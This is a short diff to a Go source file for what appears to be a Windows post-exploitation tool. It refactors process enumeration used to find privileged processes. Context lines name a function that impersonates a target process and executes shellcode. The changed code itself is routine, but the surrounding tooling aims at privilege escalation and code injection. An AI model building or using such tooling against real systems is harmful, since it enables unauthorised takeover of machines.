@@ -693,14 +693,15 @@ func findServiceExecutables(dir string) ([]string, error) {
 
 // FindPrivilegedProcesses enumerates processes with interesting privileges
 func FindPrivilegedProcesses() ([]ProcessInfo, error) {
-	processes, err := enumerateProcesses()
+	processes, err := EnumerateProcesses()
 	if err != nil {
 		return nil, fmt.Errorf("failed to enumerate processes: %v", err)
 	}
 	
 	var privilegedProcesses []ProcessInfo
 	
-	for _, proc := range processes {
+	for _, entry := range processes {
+		proc := ProcessInfo{PID: uintptr(entry.PID), Name: entry.Name}
 		if systemProcesses[strings.ToLower(proc.Name)] || proc.PID == GetCurrentProcessId() {
 			continue
 		}
@@ -737,70 +738,6 @@ func ImpersonateAndExecute(targetProcess ProcessInfo, shellcode []byte) error {
 
 // Helper functions
 
-func enumerateProcesses() ([]ProcessInfo, error) {
-	var returnLength uintptr
-	status, _ := NtQuerySystemInformation(SystemProcessInformation, nil, 0, &returnLength)
-	
-	if status != STATUS_INFO_LENGTH_MISMATCH && status != STATUS_BUFFER_TOO_SMALL {
-		return nil, fmt.Errorf("failed to get buffer size: %s", FormatNTStatus(status))
-	}
-	
-	bufferSize := returnLength + 4096
-	buffer := make([]byte, bufferSize)
-	
-	status, err := NtQuerySystemInformation(
-		SystemProcessInformation,
-		unsafe.Pointer(&buffer[0]),
-		bufferSize,
-		&returnLength,
-	)
-	
-	if err != nil || status != STATUS_SUCCESS {
-		return nil, fmt.Errorf("NtQuerySystemInformation failed: %v", err)
-	}
-	
-	var processes []ProcessInfo
-	offset := uintptr(0)
-	
-	for {
-		if offset >= uintptr(len(buffer)) {
-			break
-		}
-		
-		if offset+unsafe.Sizeof(SYSTEM_PROCESS_INFORMATION{}) > uintptr(len(buffer)) {
-			break
-		}
-		
-		procInfo := (*SYSTEM_PROCESS_INFORMATION)(unsafe.Pointer(&buffer[offset]))
-		
-		if procInfo.NextEntryOffset != 0 && procInfo.NextEntryOffset < uint32(unsafe.Sizeof(SYSTEM_PROCESS_INFORMATION{})) {
-			break
-		}
-		
-		name := ""
-		if procInfo.ImageName.Buffer != nil && procInfo.ImageName.Length > 0 && procInfo.ImageName.Length < 1024 {
-			name = utf16ToString(procInfo.ImageName.Buffer, int(procInfo.ImageName.Length/2))
-		}
-		
-		processes = append(processes, ProcessInfo{
-			PID:  procInfo.UniqueProcessId,
-			Name: name,
-		})
-		
-		if procInfo.NextEntryOffset == 0 {
-			break
-		}
-		
-		nextOffset := offset + uintptr(procInfo.NextEntryOffset)
-		if nextOffset <= offset || nextOffset >= uintptr(len(buffer)) {
-			break
-		}
-		offset = nextOffset
-	}
-	
-	return processes, nil
-}
-
 func checkProcessPrivileges(proc ProcessInfo) (*ProcessInfo, error) {
 	var processHandle uintptr
 	if err := openProcessHandle(proc.PID, &processHandle); err != nil {